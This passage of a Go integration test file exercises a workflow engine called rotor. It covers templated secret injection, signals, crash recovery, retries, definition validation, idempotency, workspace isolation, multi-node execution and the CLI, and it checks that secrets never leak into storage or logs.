package integration

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"rotor.sh/rotor/internal/leakcheck"
)

// runView is the part of GET /v1/workflow-runs/{id} the tests read.
type runView struct {
	ID          string  `json:"id"`
	Status      string  `json:"status"`
	CurrentStep *string `json:"current_step"`
	StartedBy   string  `json:"started_by"`
	ErrorCode   string  `json:"error_code"`
	Steps       []struct {
		ID       string          `json:"id"`
		Status   string          `json:"status"`
		Output   json.RawMessage `json:"output"`
		Attempts []struct {
			StatusCode int       `json:"status_code"`
			ErrorCode  string    `json:"error_code"`
			StartedAt  time.Time `json:"started_at"`
		} `json:"attempts"`
		StartedAt  *time.Time `json:"started_at"`
		FinishedAt *time.Time `json:"finished_at"`
	} `json:"steps"`
}

func (r runView) step(id string) int {
	for i, s := range r.Steps {
		if s.ID == id {
			return i
		}
	}
	return -1
}

func getRun(t *testing.T, apiURL, key, id string) runView {
	t.Helper()
	code, body := call(t, "GET", apiURL+"/v1/workflow-runs/"+id, key, "")
	if code != 200 {
		t.Fatalf("GET run %s: %d %s", id, code, body)
	}
	var r runView
	if err := json.Unmarshal([]byte(body), &r); err != nil {
		t.Fatal(err)
	}
	return r
}

// waitRun polls the run until cond holds (bounded).
func waitRun(t *testing.T, s *server, key, id string, what string, cond func(runView) bool) runView {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		r := getRun(t, s.apiURL, key, id)
		if cond(r) {
			return r
		}
		if time.Now().After(deadline) {
			b, _ := json.Marshal(r)
			t.Fatalf("run %s never %s: %s\n%s", id, what, b, tail(s.out.String(), 4000))
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func startRun(t *testing.T, s *server, key, wf, body string) runView {
	t.Helper()
	code, resp := call(t, "POST", s.apiURL+"/v1/workflows/"+wf+"/runs", key, body)
	if code != 201 {
		t.Fatalf("start run: %d %s", code, resp)
	}
	var r runView
	json.Unmarshal([]byte(resp), &r)
	return r
}

func putWorkflow(t *testing.T, s *server, key, name, def string) {
	t.Helper()
	if code, body := call(t, "PUT", s.apiURL+"/v1/workflows/"+name, key, def); code != 201 && code != 200 {
		t.Fatalf("PUT workflow %s: %d %s", name, code, body)
	}
}

// TestWorkflowThreeSteps: step 1 fetches a user with a secret in a header,
// step 2 posts step 1's output with a secret in the query, step 3 posts
// the step statuses. The upstream gets the plaintext values; the run's
// outputs, the bbolt file and the server's output never hold them; every
// request carries Idempotency-Key <run>/<step> and a Standard Webhooks
// signature; every secret.accessed row names the run and step, with the key
// that started the run as its actor.
func TestWorkflowThreeSteps(t *testing.T) {
	const crm, notify = "crm-token-value-9d1e77", "notify-token-value-51ac03"
	type hit struct {
		path, query string
		header      http.Header
		body        []byte
	}
	hits := make(chan hit, 16)
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		hits <- hit{r.URL.EscapedPath(), r.URL.RawQuery, r.Header.Clone(), b}
		if strings.HasPrefix(r.URL.Path, "/users/") {
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"email":"ann@example.com","name":"Ann <&>","plan":{"seats":3}}`)
			return
		}
		io.WriteString(w, "done")
	}))
	defer up.Close()
	dir := t.TempDir()
	s := startServer(t, dir)
	key := s.adminKey()
	signingSecret := banner(t, s.out.String(), "webhook signing secret:")
	for _, sec := range []string{`{"name":"CRM_TOKEN","value":"` + crm + `"}`, `{"name":"NOTIFY_TOKEN","value":"` + notify + `"}`} {
		if code, body := call(t, "POST", s.apiURL+"/v1/secrets", key, sec); code != 201 {
			t.Fatalf("secret: %d %s", code, body)
		}
	}
	def := `{"steps":[
		{"id":"fetch","request":{"method":"GET","url":"` + up.URL + `/users/${{ input.user_id }}",
			"headers":{"Authorization":"Bearer ${{ secrets.CRM_TOKEN }}"}}},
		{"id":"notify","request":{"method":"POST","url":"` + up.URL + `/notify?token=${{ secrets.NOTIFY_TOKEN }}&who=${{ input.user_id }}",
			"headers":{"Content-Type":"application/json"},
			"body":{"email":"${{ steps.fetch.output.email }}","seats":"${{ steps.fetch.output.plan.seats }}","note":"for ${{ steps.fetch.output.name }} in ${{ run.id }}"}},
			"retry":{"max_attempts":5},"timeout":"30s"},
		{"id":"report","request":{"method":"POST","url":"` + up.URL + `/report","body":{"fetch":"${{ steps.fetch.status }}","notify":"${{ steps.notify.output }}"}}}
	]}`
	code, body := call(t, "PUT", s.apiURL+"/v1/workflows/onboard", key, def)
	if code != 201 || !strings.Contains(body, `"version":1`) {
		t.Fatalf("PUT: %d %s", code, body)
	}
	run := startRun(t, s, key, "onboard", `{"input":{"user_id":"u 1/x"}}`)
	if run.Status != "running" || !strings.HasPrefix(run.ID, "run_") {
		t.Fatalf("start: %+v", run)
	}
	r := waitRun(t, s, key, run.ID, "completed", func(r runView) bool { return r.Status == "completed" })

	got := map[string]hit{}
	for range 3 {
		select {
		case h := <-hits:
			got[strings.SplitN(strings.TrimPrefix(h.path, "/"), "/", 2)[0]] = h
		case <-time.After(10 * time.Second):
			t.Fatal("the upstream did not get three requests")
		}
	}
	fetch, note, report := got["users"], got["notify"], got["report"]
	if fetch.path != "/users/u%201%2Fx" || fetch.header.Get("Authorization") != "Bearer "+crm {
		t.Fatalf("fetch: path %q authorization %q", fetch.path, fetch.header.Get("Authorization"))
	}
	if note.query != "token="+notify+"&who=u+1%2Fx" {
		t.Fatalf("notify query = %q", note.query)
	}
	var nb map[string]any
	if err := json.Unmarshal(note.body, &nb); err != nil {
		t.Fatalf("notify body %s: %v", note.body, err)
	}
	if nb["email"] != "ann@example.com" || nb["seats"] != float64(3) || nb["note"] != "for Ann <&> in "+run.ID {
		t.Fatalf("notify body = %s", note.body)
	}
	if !strings.Contains(string(report.body), `"fetch":"completed"`) || !strings.Contains(string(report.body), `"notify":"done"`) {
		t.Fatalf("report body = %s", report.body)
	}
	keyBytes, _ := base64.StdEncoding.DecodeString(strings.TrimPrefix(signingSecret, "whsec_"))
	for step, h := range map[string]hit{"fetch": fetch, "notify": note, "report": report} {
		if h.header.Get("Idempotency-Key") != run.ID+"/"+step || h.header.Get("webhook-id") != run.ID+"/"+step {
			t.Fatalf("%s: Idempotency-Key %q webhook-id %q", step, h.header.Get("Idempotency-Key"), h.header.Get("webhook-id"))
		}
		if !checkSignature(keyBytes, h.header, h.body) {
			t.Fatalf("%s: Standard Webhooks signature does not verify: %v", step, h.header)
		}
		for k := range h.header {
			if strings.HasPrefix(k, "Rotor-Internal-") {
				t.Fatalf("%s: the upstream saw %s", step, k)
			}
		}
	}
	// As data (the plugin's JSON wire may escape <, > and &).
	var out0 map[string]any
	json.Unmarshal(r.Steps[0].Output, &out0)
	if out0["email"] != "ann@example.com" || out0["name"] != "Ann <&>" || string(r.Steps[1].Output) != `"done"` {
		t.Fatalf("outputs: %s / %s", r.Steps[0].Output, r.Steps[1].Output)
	}
	// Audit: started and completed, and each secret access names the run
	// and step, with the starting key as actor.
	auditCount(t, s.apiURL, key, "secret.accessed") // access rows are flushed in the background
	_, auditBody := call(t, "GET", s.apiURL+"/v1/audit?limit=100", key, "")
	var audit struct {
		Events []struct {
			ActorID    string         `json:"actor_id"`
			EventType  string         `json:"event_type"`
			ResourceID string         `json:"resource_id"`
			Input      map[string]any `json:"input"`
		} `json:"events"`
	}
	json.Unmarshal([]byte(auditBody), &audit)
	types := map[string]int{}
	for _, e := range audit.Events {
		types[e.EventType]++
		if e.EventType == "secret.accessed" {
			if e.ActorID != r.StartedBy || e.Input["run_id"] != run.ID || (e.Input["step_id"] != "fetch" && e.Input["step_id"] != "notify") {
				t.Fatalf("secret.accessed row: actor %q (want %q) input %v", e.ActorID, r.StartedBy, e.Input)
			}
		}
	}
	if types["workflow.created"] != 1 || types["workflow_run.started"] != 1 || types["workflow_run.completed"] != 1 || types["secret.accessed"] != 2 {
		t.Fatalf("audit event types = %v", types)
	}
	// Metrics.
	_, metrics := call(t, "GET", s.opsURL+"/metrics", "", "")
	for _, m := range []string{"rotor_workflow_runs_started_total 1", `rotor_workflow_runs_finished_total{status="completed"} 1`,
		`rotor_workflow_step_attempts_total{outcome="completed"} 3`, `rotor_workflow_runs{status="completed"} 1`} {
		if !strings.Contains(metrics, m) {
			t.Fatalf("metrics lack %q", m)
		}
	}
	_, runBody := call(t, "GET", s.apiURL+"/v1/workflow-runs/"+run.ID, key, "")
	s.stop()
	db, _ := os.ReadFile(filepath.Join(dir, "data", "rotor.db"))
	for _, v := range []string{crm, notify} {
		leakcheck.Scan(t, v, map[string][]byte{"bbolt file": db, "server output": []byte(s.out.String()), "run": []byte(runBody), "audit": []byte(auditBody)})
	}
	if !strings.Contains(string(db), "secrets.CRM_TOKEN") {
		t.Fatal("the stored definition does not hold the template")
	}
}

func checkSignature(key []byte, h http.Header, body []byte) bool {
	mac := hmac.New(sha256.New, key)
	mac.Write([]byte(h.Get("webhook-id") + "." + h.Get("webhook-timestamp") + "." + string(body)))
	return h.Get("webhook-signature") == "v1,"+base64.StdEncoding.EncodeToString(mac.Sum(nil))
}

// TestWorkflowSleepSignalKill: a request, a sleep, a wait for a signal and
// a request using the signal's data. The rotor process is killed with
// SIGKILL while the run waits; after a restart the signal completes it, and
// step 1 was sent exactly once. A second run gets its signal before it
// reaches the wait (kept), and finishes after its sleep.
func TestWorkflowSleepSignalKill(t *testing.T) {
	var first atomic.Int32
	var mu sync.Mutex
	var finals []string
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		switch r.URL.Path {
		case "/first":
			first.Add(1)
		case "/final":
			mu.Lock()
			finals = append(finals, string(b))
			mu.Unlock()
		}
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"ok":true}`)
	}))
	defer up.Close()
	dir := t.TempDir()
	s := startServer(t, dir)
	key := s.adminKey()
	putWorkflow(t, s, key, "approval", `{"steps":[
		{"id":"first","request":{"method":"POST","url":"`+up.URL+`/first","body":{"n":1}}},
		{"id":"pause","sleep":"1s"},
		{"id":"approve","wait_for_signal":"approved","timeout":"1h"},
		{"id":"final","request":{"method":"POST","url":"`+up.URL+`/final","body":{"by":"${{ signals.approved.data.user }}"}}}
	]}`)
	run := startRun(t, s, key, "approval", `{"input":{}}`)
	r := waitRun(t, s, key, run.ID, "waiting for the signal", func(r runView) bool {
		return r.Status == "waiting" && r.CurrentStep != nil && *r.CurrentStep == "approve"
	})
	pause := r.Steps[r.step("pause")]
	if pause.Status != "completed" || pause.FinishedAt.Sub(*pause.StartedAt) < time.Second {
		t.Fatalf("the sleep did not last: %+v", pause)
	}
	_, m := call(t, "GET", s.opsURL+"/metrics", "", "")
	if !strings.Contains(m, `rotor_workflow_runs{status="waiting"} 1`) || !strings.Contains(m, "rotor_workflow_runs_executing 0") {
		t.Fatalf("a waiting run must hold no worker:\n%s", grepLines(m, "rotor_workflow"))
	}
	s.cmd.Process.Kill() // SIGKILL while the run waits
	<-s.done
	s.done <- nil

	s2 := startServer(t, dir)
	defer s2.stop()
	if code, body := call(t, "POST", s2.apiURL+"/v1/workflow-runs/"+run.ID+"/signals/approved", key, `{"data":{"user":"ann"}}`); code != 202 {
		t.Fatalf("signal: %d %s", code, body)
	}
	r = waitRun(t, s2, key, run.ID, "completed", func(r runView) bool { return r.Status == "completed" })
	if n := first.Load(); n != 1 {
		t.Fatalf("step 1 was sent %d times, want once", n)
	}
	if string(r.Steps[r.step("approve")].Output) != `{"user":"ann"}` {
		t.Fatalf("approve output = %s", r.Steps[r.step("approve")].Output)
	}
	// The signal arrives first: kept until the run reaches its wait.
	run2 := startRun(t, s2, key, "approval", `{}`)
	if code, body := call(t, "POST", s2.apiURL+"/v1/workflow-runs/"+run2.ID+"/signals/approved", key, `{"data":{"user":"bob"}}`); code != 202 {
		t.Fatalf("early signal: %d %s", code, body)
	}
	waitRun(t, s2, key, run2.ID, "completed", func(r runView) bool { return r.Status == "completed" })
	mu.Lock()
	defer mu.Unlock()
	if len(finals) != 2 || finals[0] != `{"by":"ann"}` || finals[1] != `{"by":"bob"}` {
		t.Fatalf("final bodies = %q", finals)
	}
	// A finished run takes no more signals.
	if code, body := call(t, "POST", s2.apiURL+"/v1/workflow-runs/"+run2.ID+"/signals/approved", key, `{}`); code != 409 || !strings.Contains(body, "run_state") {
		t.Fatalf("signal to a completed run: %d %s", code, body)
	}
}

// TestWorkflowRetryFailedStep: a step that keeps failing exhausts its
// attempts and fails the run; once the upstream recovers, retry resumes
// at that step (step 1 is not sent again) and the run completes.
func TestWorkflowRetryFailedStep(t *testing.T) {
	var healthy atomic.Bool
	var firstHits, flakyHits atomic.Int32
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		if r.URL.Path == "/first" {
			firstHits.Add(1)
			return
		}
		flakyHits.Add(1)
		if !healthy.Load() {
			w.WriteHeader(http.StatusBadGateway)
		}
	}))
	defer up.Close()
	s := startServer(t, t.TempDir())
	defer s.stop()
	key := s.adminKey()
	putWorkflow(t, s, key, "flaky", `{"steps":[
		{"id":"first","request":{"method":"GET","url":"`+up.URL+`/first"}},
		{"id":"flaky","request":{"method":"GET","url":"`+up.URL+`/flaky"},"retry":{"max_attempts":2,"backoff_base_seconds":0.1,"backoff_cap_seconds":0.2}}
	]}`)
	run := startRun(t, s, key, "flaky", `{}`)
	r := waitRun(t, s, key, run.ID, "failed", func(r runView) bool { return r.Status == "failed" })
	fl := r.Steps[1]
	if r.ErrorCode != "http_status" || fl.Status != "failed" || len(fl.Attempts) != 2 || fl.Attempts[1].StatusCode != 502 || *r.CurrentStep != "flaky" {
		b, _ := json.Marshal(r)
		t.Fatalf("failed run: %s", b)
	}
	if code, body := call(t, "POST", s.apiURL+"/v1/workflow-runs/"+run.ID+"/cancel", key, ""); code != 409 {
		t.Fatalf("cancel of a failed run: %d %s", code, body)
	}
	healthy.Store(true)
	if code, body := call(t, "POST", s.apiURL+"/v1/workflow-runs/"+run.ID+"/retry", key, ""); code != 200 {
		t.Fatalf("retry: %d %s", code, body)
	}
	r = waitRun(t, s, key, run.ID, "completed", func(r runView) bool { return r.Status == "completed" })
	if firstHits.Load() != 1 || flakyHits.Load() != 3 || len(r.Steps[1].Attempts) != 3 {
		t.Fatalf("first sent %d times, flaky %d (attempts %d)", firstHits.Load(), flakyHits.Load(), len(r.Steps[1].Attempts))
	}
	if code, _ := call(t, "POST", s.apiURL+"/v1/workflow-runs/"+run.ID+"/retry", key, ""); code != 409 {
		t.Fatalf("retry of a completed run: %d", code)
	}
	// A wait that timed out fails its run; retry waits the full timeout
	// again, and a signal then completes it.
	putWorkflow(t, s, key, "short", `{"steps":[{"id":"w","wait_for_signal":"go","timeout":"1s"}]}`)
	sr := startRun(t, s, key, "short", `{}`)
	waitRun(t, s, key, sr.ID, "failed", func(r runView) bool { return r.Status == "failed" && r.ErrorCode == "wait_timeout" })
	mustCall(t, 200, "POST", s.apiURL+"/v1/workflow-runs/"+sr.ID+"/retry", key, "")
	mustCall(t, 202, "POST", s.apiURL+"/v1/workflow-runs/"+sr.ID+"/signals/go", key, `{"data":1}`)
	waitRun(t, s, key, sr.ID, "completed", func(r runView) bool { return r.Status == "completed" })
	// Cancel a waiting run.
	putWorkflow(t, s, key, "waits", `{"steps":[{"id":"w","wait_for_signal":"go"}]}`)
	w := startRun(t, s, key, "waits", `{}`)
	waitRun(t, s, key, w.ID, "waiting", func(r runView) bool { return r.Status == "waiting" })
	if code, body := call(t, "POST", s.apiURL+"/v1/workflow-runs/"+w.ID+"/cancel", key, ""); code != 200 || !strings.Contains(body, `"status":"canceled"`) {
		t.Fatalf("cancel: %d %s", code, body)
	}
}

// TestWorkflowInvalidDefinitions: each invalid definition is a 422 that
// names the step and the field.
func TestWorkflowInvalidDefinitions(t *testing.T) {
	s := startServer(t, t.TempDir())
	defer s.stop()
	key := s.adminKey()
	call(t, "POST", s.apiURL+"/v1/secrets", key, `{"name":"KNOWN","value":"known-value-123"}`)
	req := func(id, extra string) string {
		return `{"id":"` + id + `","request":{"method":"POST","url":"https://api.example.com/x"` + extra + `}}`
	}
	cases := []struct{ name, def, want string }{
		{"unknown secret", `{"steps":[{"id":"a","request":{"method":"GET","url":"https://api.example.com/x","headers":{"Authorization":"Bearer ${{ secrets.NOPE }}"}}}]}`, "steps[0] (a).request.headers.Authorization: secret NOPE does not exist"},
		{"later step", `{"steps":[` + req("a", `,"body":{"x":"${{ steps.b.output }}"}`) + `,` + req("b", "") + `]}`, "steps[0] (a).request.body: steps.b is not an earlier step"},
		{"unknown step", `{"steps":[` + req("a", `,"body":{"x":"${{ steps.zz.status }}"}`) + `]}`, "steps.zz is not an earlier step"},
		{"bad path", `{"steps":[` + req("a", "") + `,` + req("b", `,"body":{"x":"${{ steps.a.output..x }}"}`) + `]}`, "steps[1] (b).request.body"},
		{"bad field", `{"steps":[` + req("a", "") + `,` + req("b", `,"body":{"x":"${{ steps.a.result }}"}`) + `]}`, "steps[1] (b).request.body"},
		{"unknown root", `{"steps":[` + req("a", `,"body":"${{ env.HOME }}"`) + `]}`, "steps[0] (a).request.body"},
		{"unknown signal", `{"steps":[` + req("a", `,"body":{"x":"${{ signals.ok.data }}"}`) + `]}`, "no earlier step waits for a signal named ok"},
		{"bad sleep", `{"steps":[{"id":"a","sleep":"soon"}]}`, "steps[0] (a).sleep"},
		{"bad timeout", `{"steps":[{"id":"a","wait_for_signal":"x","timeout":"-1h"}]}`, "steps[0] (a).timeout"},
		{"request timeout too long", `{"steps":[{"id":"a","request":{"method":"GET","url":"https://a.example/"},"timeout":"10m"}]}`, "steps[0] (a).timeout"},
		{"two kinds", `{"steps":[{"id":"a","sleep":"1s","wait_for_signal":"x"}]}`, "steps[0] (a): a step has exactly one of"},
		{"duplicate id", `{"steps":[{"id":"a","sleep":"1s"},{"id":"a","sleep":"1s"}]}`, "steps[1] (a).id"},
		{"no steps", `{"steps":[]}`, "at least one step"},
		{"bad method", `{"steps":[{"id":"a","request":{"method":"FETCH","url":"https://a.example/"}}]}`, "steps[0] (a).request.method"},
		{"secret in host", `{"steps":[{"id":"a","request":{"method":"GET","url":"https://${{ secrets.KNOWN }}.example/"}}]}`, "steps[0] (a).request.url"},
		{"input in host", `{"steps":[{"id":"a","request":{"method":"GET","url":"https://${{ input.host }}/"}}]}`, "steps[0] (a).request.url"},
		{"near-miss reference", `{"steps":[{"id":"a","request":{"method":"GET","url":"https://a.example/","headers":{"X":"${{ secret.KNOWN }}"}}}]}`, "steps[0] (a).request.headers.X"},
		{"reserved header", `{"steps":[{"id":"a","request":{"method":"GET","url":"https://a.example/","headers":{"Idempotency-Key":"x"}}}]}`, "steps[0] (a).request.headers.Idempotency-Key"},
		{"unknown field", `{"steps":[{"id":"a","sleep":"1s","slep":"2s"}]}`, "unknown field"},
		{"retry on a sleep", `{"steps":[{"id":"a","sleep":"1s","retry":{"max_attempts":2}}]}`, "steps[0] (a).retry"},
	}
	for _, c := range cases {
		code, body := call(t, "PUT", s.apiURL+"/v1/workflows/bad", key, c.def)
		if code != 422 || !strings.Contains(body, `"code":"invalid_workflow"`) || !strings.Contains(body, c.want) {
			t.Errorf("%s: %d %s (want 422 naming %q)", c.name, code, body, c.want)
		}
	}
	if code, body := call(t, "PUT", s.apiURL+"/v1/workflows/Bad_Name", key, `{"steps":[{"id":"a","sleep":"1s"}]}`); code != 422 {
		t.Errorf("bad name: %d %s", code, body)
	}
	if code, _ := call(t, "GET", s.apiURL+"/v1/workflows/bad", key, ""); code != 404 {
		t.Errorf("an invalid definition was stored")
	}
	// A valid one, replaced: the version increases.
	putWorkflow(t, s, key, "good", `{"steps":[{"id":"a","sleep":"1s"}]}`)
	if code, body := call(t, "PUT", s.apiURL+"/v1/workflows/good", key, `{"steps":[{"id":"a","sleep":"2s"}]}`); code != 200 || !strings.Contains(body, `"version":2`) {
		t.Errorf("replace: %d %s", code, body)
	}
	// Bad run requests.
	for _, b := range []string{`{"input":[1]}`, `{"input":"x"}`, `{"idempotency_key":"` + strings.Repeat("k", 300) + `"}`} {
		if code, body := call(t, "POST", s.apiURL+"/v1/workflows/good/runs", key, b); code != 422 {
			t.Errorf("run %s: %d %s", b, code, body)
		}
	}
}

// TestWorkflowIdempotencyAndIsolation: the same idempotency key starts one
// run; another workspace sees none of this workspace's workflows or runs.
func TestWorkflowIdempotencyAndIsolation(t *testing.T) {
	s := startServer(t, t.TempDir())
	defer s.stop()
	key := s.adminKey()
	putWorkflow(t, s, key, "wf", `{"steps":[{"id":"w","wait_for_signal":"go"}]}`)
	a := startRun(t, s, key, "wf", `{"input":{"n":1},"idempotency_key":"order-1"}`)
	code, body := call(t, "POST", s.apiURL+"/v1/workflows/wf/runs", key, `{"input":{"n":2},"idempotency_key":"order-1"}`)
	var b runView
	json.Unmarshal([]byte(body), &b)
	if code != 200 || b.ID != a.ID {
		t.Fatalf("same key: %d %s (want 200 and %s)", code, body, a.ID)
	}
	c := startRun(t, s, key, "wf", `{"idempotency_key":"order-2"}`)
	if c.ID == a.ID {
		t.Fatal("another key gave the same run")
	}
	_, wsBody := call(t, "POST", s.apiURL+"/v1/workspaces", key, `{"name":"other"}`)
	other := between(wsBody, `"key":"`, `"`)
	if other == "" {
		t.Fatalf("workspace: %s", wsBody)
	}
	for _, c := range []struct{ method, path, body string }{
		{"GET", "/v1/workflows/wf", ""},
		{"POST", "/v1/workflows/wf/runs", `{}`},
		{"GET", "/v1/workflow-runs/" + a.ID, ""},
		{"POST", "/v1/workflow-runs/" + a.ID + "/signals/go", `{}`},
		{"POST", "/v1/workflow-runs/" + a.ID + "/cancel", ""},
		{"POST", "/v1/workflow-runs/" + a.ID + "/retry", ""},
		{"DELETE", "/v1/workflows/wf", ""},
	} {
		if code, body := call(t, c.method, s.apiURL+c.path, other, c.body); code != 404 {
			t.Errorf("other workspace %s %s: %d %s", c.method, c.path, code, body)
		}
	}
	for _, path := range []string{"/v1/workflows", "/v1/workflow-runs"} {
		_, body := call(t, "GET", s.apiURL+path, other, "")
		if strings.Contains(body, `"wf"`) || strings.Contains(body, a.ID) {
			t.Errorf("other workspace lists %s: %s", path, body)
		}
	}
	_, body = call(t, "GET", s.apiURL+"/v1/workflows/wf/runs?status=waiting", key, "")
	if !strings.Contains(body, a.ID) || !strings.Contains(body, c.ID) {
		t.Fatalf("own list: %s", body)
	}
	// The run is still there, untouched.
	if r := getRun(t, s.apiURL, key, a.ID); r.Status == "canceled" {
		t.Fatal("another workspace canceled the run")
	}
}

// TestJobSecretAccessActor: a job's secret.accessed row names the key that
// enqueued the job (it used to say "dispatcher"), like a workflow step's
// names the key that started the run.
func TestJobSecretAccessActor(t *testing.T) {
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.Copy(io.Discard, r.Body) }))
	defer up.Close()
	s := startServer(t, t.TempDir())
	defer s.stop()
	admin := s.adminKey()
	_, kb := call(t, "POST", s.apiURL+"/v1/keys", admin, `{"name":"producer","role":"member"}`)
	member, memberID := between(kb, `"key":"`, `"`), between(kb, `"id":"`, `"`)
	if member == "" || memberID == "" {
		t.Fatalf("key: %s", kb)
	}
	mustCall(t, 201, "POST", s.apiURL+"/v1/secrets", admin, `{"name":"JOB_TOKEN","value":"job-token-value-77aa"}`)
	mustCall(t, 201, "POST", s.apiURL+"/v1/queues", admin, `{"name":"q","callback_url":"`+up.URL+`/hook","callback_headers":{"X-Key":"${{ secrets.JOB_TOKEN }}"}}`)
	j := mustCall(t, 201, "POST", s.apiURL+"/v1/queues/q/jobs", member, `{"payload":{"a":1}}`)
	waitJobAttempts(t, s.apiURL, admin, j["id"].(string), 1)
	if auditCount(t, s.apiURL, admin, "secret.accessed") != 1 {
		t.Fatal("no access row")
	}
	_, body := call(t, "GET", s.apiURL+"/v1/audit?event_type=secret.accessed", admin, "")
	if !strings.Contains(body, `"actor_id":"`+memberID+`"`) || !strings.Contains(body, `"job_id":"`+j["id"].(string)+`"`) {
		t.Fatalf("the access row does not name the enqueuing key %s: %s", memberID, body)
	}
}

// TestWorkflowsManyNodes: two rotor processes on one PostgreSQL database
// (storage through the plugin) share the runs: each step is sent once,
// whichever node started the run, and a run waiting on node A is resumed by
// a signal sent through node B.
func TestWorkflowsManyNodes(t *testing.T) {
	dsn, _ := pgSchema(t)
	master := base64.StdEncoding.EncodeToString([]byte("0123456789abcdef0123456789abcdef"))
	const key = "workflow-nodes-bootstrap-key-0123456789"
	env := []string{"ROTOR_STORAGE=postgres", "ROTOR_POSTGRES_DSN=" + dsn, "ROTOR_MASTER_KEY=" + master, "ROTOR_BOOTSTRAP_API_KEY=" + key}
	a := startServer(t, t.TempDir(), env...)
	defer a.stop()
	b := startServer(t, t.TempDir(), env...)
	defer b.stop()
	var mu sync.Mutex
	seen := map[string]int{}
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		time.Sleep(5 * time.Millisecond)
		mu.Lock()
		seen[r.Header.Get("Idempotency-Key")]++
		mu.Unlock()
	}))
	defer up.Close()
	putWorkflow(t, a, key, "shared", `{"steps":[
		{"id":"one","request":{"method":"POST","url":"`+up.URL+`/one","body":{"run":"${{ run.id }}"}}},
		{"id":"two","request":{"method":"POST","url":"`+up.URL+`/two"}},
		{"id":"gate","wait_for_signal":"go"},
		{"id":"three","request":{"method":"POST","url":"`+up.URL+`/three"}}
	]}`)
	const runs = 30
	var ids []string
	for i := range runs {
		node := a
		if i%2 == 1 {
			node = b
		}
		ids = append(ids, startRun(t, node, key, "shared", `{}`).ID)
	}
	for i, id := range ids {
		waitRun(t, a, key, id, "waiting", func(r runView) bool { return r.Status == "waiting" })
		node := b
		if i%2 == 1 {
			node = a
		}
		if code, body := call(t, "POST", node.apiURL+"/v1/workflow-runs/"+id+"/signals/go", key, `{}`); code != 202 {
			t.Fatalf("signal: %d %s", code, body)
		}
	}
	for _, id := range ids {
		waitRun(t, b, key, id, "completed", func(r runView) bool { return r.Status == "completed" })
	}
	mu.Lock()
	defer mu.Unlock()
	if len(seen) != runs*3 {
		t.Fatalf("%d distinct step requests, want %d", len(seen), runs*3)
	}
	for k, n := range seen {
		if n != 1 {
			t.Fatalf("%s sent %d times", k, n)
		}
	}
	// Both nodes executed steps.
	_, ma := call(t, "GET", a.opsURL+"/metrics", "", "")
	_, mb := call(t, "GET", b.opsURL+"/metrics", "", "")
	if !strings.Contains(ma, `rotor_workflow_step_attempts_total{outcome="completed"}`) || !strings.Contains(mb, `rotor_workflow_step_attempts_total{outcome="completed"}`) {
		t.Logf("node A:\n%s\nnode B:\n%s", grepLines(ma, "step_attempts"), grepLines(mb, "step_attempts"))
		t.Fatal("one node executed every step")
	}
}

// TestWorkflowsCLI: apply a YAML workflow, run it with --wait, signal,
// list, get, cancel, retry, all with the real binary; -o json prints the
// API's objects; errors are one line and a non-zero exit.
func TestWorkflowsCLI(t *testing.T) {
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"greeting":"hello"}`)
	}))
	defer up.Close()
	dir := t.TempDir()
	s := startServer(t, dir)
	defer s.stop()
	env := []string{"ROTOR_API_URL=" + s.apiURL, "ROTOR_API_KEY=" + s.adminKey()}
	file := filepath.Join(dir, "hello.yaml")
	os.WriteFile(file, []byte(`# a workflow file: the API's schema, in YAML
name: hello
steps:
  - id: greet
    request:
      method: POST
      url: `+up.URL+`/greet/${{ input.who }}
      body:
        who: "${{ input.who }}"
  - id: approve
    wait_for_signal: approved
    timeout: 1h
`), 0o600)
	if code, out, errOut := rotor(t, env, "workflows", "apply", "-f", file); code != 0 || !strings.Contains(out, "greet > approve") {
		t.Fatalf("apply: %d %s %s", code, out, errOut)
	}
	code, out, errOut := rotor(t, env, "workflows", "run", "hello", "--input", `{"who":"ann"}`, "-o", "json")
	var run struct{ ID, Status string }
	if code != 0 || json.Unmarshal([]byte(out), &run) != nil || run.ID == "" {
		t.Fatalf("run: %d %s %s", code, out, errOut)
	}
	waitRun(t, s, env[1][len("ROTOR_API_KEY="):], run.ID, "waiting", func(r runView) bool { return r.Status == "waiting" })
	if code, out, errOut := rotor(t, env, "runs", "signal", run.ID, "approved", "--data", `{"ok":true}`); code != 0 || !strings.Contains(out, run.ID) {
		t.Fatalf("signal: %d %s %s", code, out, errOut)
	}
	waitRun(t, s, env[1][len("ROTOR_API_KEY="):], run.ID, "completed", func(r runView) bool { return r.Status == "completed" })
	if code, out, _ := rotor(t, env, "runs", "get", run.ID); code != 0 || !strings.Contains(out, `{"greeting":"hello"}`) || !strings.Contains(out, "approve") {
		t.Fatalf("runs get: %d %s", code, out)
	}
	if code, out, _ := rotor(t, env, "runs", "list", "--workflow", "hello", "--status", "completed"); code != 0 || !strings.Contains(out, run.ID) {
		t.Fatalf("runs list: %d %s", code, out)
	}
	if code, out, _ := rotor(t, env, "workflows", "list", "-o", "json"); code != 0 || !strings.Contains(out, `"name": "hello"`) {
		t.Fatalf("workflows list: %d %s", code, out)
	}
	// --wait: a one-step workflow completes and prints its steps.
	os.WriteFile(file, []byte(`{"steps":[{"id":"only","request":{"method":"GET","url":"`+up.URL+`/x"}}]}`), 0o600)
	if code, out, errOut := rotor(t, env, "workflows", "apply", "quick", "-f", file); code != 0 {
		t.Fatalf("apply json: %d %s %s", code, out, errOut)
	}
	if code, out, errOut := rotor(t, env, "workflows", "run", "quick", "--wait"); code != 0 || !strings.Contains(out, "completed") {
